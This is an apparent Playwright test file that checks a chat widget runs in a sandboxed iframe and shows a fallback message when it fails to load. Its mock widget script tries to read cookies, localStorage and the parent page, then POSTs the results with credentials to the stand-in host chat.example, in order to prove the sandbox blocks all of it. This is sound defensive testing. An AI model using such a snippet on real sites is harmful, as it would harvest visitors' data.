import { expect, test, visit } from "../../support/e2e"

const provider = "https://chat.example"

test.use({ serverEnv: { SILENT_SSO: "off", CHAT_SCRIPT_URL: `${provider}/widget.js?site=1&lang=en` } })

/**
 * What the provider's script would try: read everything that a page of ours can read, and make a call in the
 * visitor's name.
 */
const widget = `
  const tried = {}
  for (const [name, read] of Object.entries({
    cookies: () => document.cookie,
    storage: () => localStorage.length,
    parent: () => parent.document.title,
    cookieSet: () => { document.cookie = "planted=1" },
  })) {
    try { tried[name] = "may: " + read() } catch (error) { tried[name] = error.name }
  }
  fetch("${provider}/hello", { method: "POST", credentials: "include", body: JSON.stringify({ origin, tried }) })
  document.body.append(Object.assign(document.createElement("button"), { textContent: "Start the conversation" }))
`

test("the chat script runs in a frame that cannot read the site", async ({ page, signedIn }) => {
  await signedIn("ada@example.com")
  const asked: Array<{ url: string; cookie: string | undefined; origin: string | undefined; body: string }> =
    []
  await page.route(`${provider}/**`, async (route) => {
    const request = route.request()
    const { cookie, origin } = await request.allHeaders()
    asked.push({ url: request.url(), cookie, origin, body: request.postData() ?? "" })
    if (request.url().includes("widget.js"))
      return route.fulfill({ contentType: "text/javascript", body: widget })
    return route.fulfill({
      headers: { "access-control-allow-origin": "null", "access-control-allow-credentials": "true" },
    })
  })
  await visit(page, "/")
  await page.getByRole("link", { name: "Ask about a pilot" }).click()
  await expect(page.getByRole("button", { name: "Open the chat" })).toBeVisible()
  expect(asked).toEqual([])

  await page.setViewportSize({ width: 390, height: 700 })
  await page.getByRole("button", { name: "Open the chat" }).click()
  const chat = page.frameLocator('iframe[title="Chat"]')
  await expect(chat.getByRole("button", { name: "Start the conversation" })).toBeVisible()
  await expect.poll(() => asked.length).toBe(2)
  const [script, hello] = asked
  expect(script?.url).toBe(`${provider}/widget.js?site=1&lang=en`)
  expect(hello).toMatchObject({ origin: "null", cookie: undefined })
  expect(JSON.parse(hello?.body ?? "")).toEqual({
    origin: "null",
    tried: {
      cookies: "SecurityError",
      storage: "SecurityError",
      parent: "SecurityError",
      cookieSet: "SecurityError",
    },
  })
  const frame = await page.getByTitle("Chat").boundingBox()
  expect(frame?.width).toBeGreaterThan(320)
  expect(frame?.height).toBeGreaterThan(400)
  expect(await page.evaluate(() => document.documentElement.scrollWidth)).toBe(390)

  await page.getByRole("banner").getByRole("link", { name: "Launchpad" }).click()
  await expect(page.getByRole("heading", { name: "AI Agent Command Center" })).toBeVisible()
  expect(page.frames()).toHaveLength(1)
})

test("a press that comes before the scripts opens the chat, which says in its frame when it fails to load", async ({
  page,
  tolerate,
}) => {
  tolerate(/net::ERR_FAILED/)
  await page.route(`${provider}/**`, (route) => route.abort())
  await page.route("**/assets/*.js", (route) => route.abort())
  await page.goto("/contact?topic=pilot")
  await page.getByText("Open the chat").click()
  await expect(page.frameLocator('iframe[title="Chat"]').getByRole("status")).toHaveText(
    "Couldn't load the chat. Contact us by email instead.",
  )
  await expect(page.getByLabel("Topic")).toHaveValue("pilot")
})
